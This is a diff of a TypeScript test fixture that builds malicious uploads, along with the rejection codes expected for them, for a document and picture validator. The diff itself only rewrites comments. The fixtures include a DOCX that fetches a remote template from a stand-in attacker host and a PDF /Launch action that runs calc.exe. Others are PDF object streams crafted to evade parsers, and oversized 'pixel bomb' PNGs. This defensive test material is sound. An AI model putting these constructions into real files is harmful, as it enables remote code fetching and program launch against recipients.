@@ -4,13 +4,10 @@ import { makeCompoundFile, wordBeginning } from './make-compound-file.ts';
 import { makePdf, stream, writePdf } from './make-pdf.ts';
 import { makeDocx, makeZip } from './make-zip.ts';
 
-/** What strangers may send: by a name that says what it is, its bytes, and what is answered. */
+/** A malicious or unusual upload, and its expected result. */
 interface NastyFile {
   bytes: () => Buffer | Promise<Buffer>;
-  /**
-   * `FILE_...` when it is refused; else the type that it is taken for, with what else must be found
-   * out about it
-   */
+  /** `FILE_...` if it is refused, otherwise the detected type and properties. */
   expected: string | { type: string; pages?: number; pixels?: { width: number; height: number } };
 }
 
@@ -22,7 +19,7 @@ const svg = (content: string, attributes = '') =>
   );
 const picture = (width = 60, height = 40) =>
   sharp({ create: { width, height, channels: 3, background: { r: 200, g: 90, b: 30 } } });
-/** Half of a picture that does not pack well. */
+/** The first half of a picture that does not compress well. */
 async function half(format: 'png' | 'jpeg' | 'webp'): Promise<Buffer> {
   const noisy = sharp({
     create: {
@@ -36,14 +33,14 @@ async function half(format: 'png' | 'jpeg' | 'webp'): Promise<Buffer> {
   const bytes = await noisy.toFormat(format).toBuffer();
   return bytes.subarray(0, bytes.length / 2);
 }
-/** A PNG that says it is so large, and holds nothing. */
+/** A PNG without content that claims this size. */
 async function pngOfSize(width: number, height: number): Promise<Buffer> {
   const bytes = await picture().png().toBuffer();
   bytes.writeUInt32BE(width, 16);
   bytes.writeUInt32BE(height, 20);
   return bytes;
 }
-/** With the chunk of a PNG that moves. */
+/** Adds the chunk of an animated PNG. */
 async function movingPng(): Promise<Buffer> {
   const bytes = await picture().png().toBuffer();
   const control = Buffer.alloc(20);
@@ -63,14 +60,14 @@ const relationship = (type: string, target: string) =>
   `<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`;
 const MEANINGS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
 const FETCHED = `Type="${MEANINGS}/attachedTemplate" Target="https://attacker.example/t.dotm" TargetMode="External"`;
-/** A DOCX with one relationship of its settings, as whoever makes it writes that. */
+/** A DOCX with one custom relationship in its settings. */
 const related = (attributes: string) => () =>
   relatedBy(`<Relationships><Relationship Id="r" ${attributes}/></Relationships>`);
 const relatedBy = (content: string | Buffer, name = 'word/_rels/settings.xml.rels') => makeDocx([{ name, content }]);
 const LAUNCH = '<< /S /Launch /F (calc.exe) >>';
 const objectList = (content: string) =>
   stream('/Type /ObjStm /N 1 /First 8 /Filter /FlateDecode', deflateSync(`20000 0 ${content}`));
-/** One that starts a program, its dictionary and bytes as whoever makes it writes them. */
+/** An object that starts a program, with a custom dictionary and bytes. */
 const launching =
   (dictionary: string, pack: (content: Buffer) => Buffer = deflateSync, before = '') =>
   () => {
@@ -78,7 +75,7 @@ const launching =
     return makePdf({ objects: [Buffer.concat([Buffer.from(before), list])] });
   };
 const inHexadecimal = (content: Buffer) => Buffer.from(`${content.toString('hex')}>`);
-/** Packed as pictures are: in lines, each byte the difference to the one above. */
+/** Compresses with a PNG predictor, as pictures are. */
 function inLines(content: Buffer): Buffer {
   const lines = Array.from({ length: Math.ceil(content.length / 4) }, (_, line) => [
     2,
@@ -86,7 +83,7 @@ function inLines(content: Buffer): Buffer {
   ]);
   return deflateSync(Buffer.from(lines.flat()));
 }
-/** A part of it is not packed, and says that the object ends. */
+/** Contains an uncompressed part that looks like the end of the object. */
 function withEarlyEnd(content: Buffer): Buffer {
   const plain = Buffer.concat([content.subarray(0, 8), Buffer.from('%endstream endobj\n')]);
   const length = Buffer.alloc(4);
@@ -97,7 +94,7 @@ function withEarlyEnd(content: Buffer): Buffer {
   return Buffer.concat([Buffer.from('\x78\x01\0', 'latin1'), length, plain, deflateRawSync(rest), checksum]);
 }
 
-/** Sent where PDF, DOC and DOCX are asked for. */
+/** Uploads where PDF, DOC or DOCX is expected. */
 export const NASTY_DOCUMENTS: Readonly<Record<string, NastyFile>> = {
   'nothing at all': { bytes: text(''), expected: 'FILE_EMPTY' },
   'one byte': { bytes: text('%'), expected: 'FILE_TYPE' },
@@ -262,11 +259,11 @@ export const NASTY_DOCUMENTS: Readonly<Record<string, NastyFile>> = {
         objects: [
           // pdfTeX
           stream('\n/Type /ObjStm\n/N 1\n/First 8\n/Filter /FlateDecode\n', deflateSync('20000 0 << /A 1 >>')),
-          // Acrobat, with the list that this one goes on
+          // Acrobat, with the list that this one continues
           stream('/Extends 10000 0 R/Filter[/FlateDecode]/First 8/N 1/Type/ObjStm', deflateSync('20001 0 (/A)')),
-          // not packed at all, as programs for looking into PDFs write them
+          // uncompressed, as PDF inspection tools write them
           stream('/Type /ObjStm /N 1 /First 8 /DecodeParms null', Buffer.from('20002 0 [ /A ]')),
-          // what other objects hold: bookmarks, resources of any name, profiles, remarks
+          // content of other objects: bookmarks, resources, profiles, annotations
           '<< /Type /Outlines /First 20000 0 R /Last 20000 0 R /Title (\\( a stream\n) % obj <<\n >>',
           stream('/Type /XObject /Resources << /Font << /F 20000 0 R /First 20000 0 R >> >>', Buffer.from('q Q')),
           stream('/N 3 /Alternate /DeviceRGB /Filter [/ASCII85Decode /FlateDecode]', Buffer.from('GhQ~>')),
@@ -524,7 +521,7 @@ export const NASTY_DOCUMENTS: Readonly<Record<string, NastyFile>> = {
   },
 };
 
-/** Sent where pictures and drawings are asked for. */
+/** Uploads where pictures or drawings are expected. */
 export const NASTY_PICTURES: Readonly<Record<string, NastyFile>> = {
   'a PNG of 3,600 million pixels': { bytes: () => pngOfSize(60_000, 60_000), expected: 'FILE_TOO_COMPLEX' },
   'a PNG without pixels': { bytes: () => pngOfSize(0, 0), expected: 'FILE_UNREADABLE' },
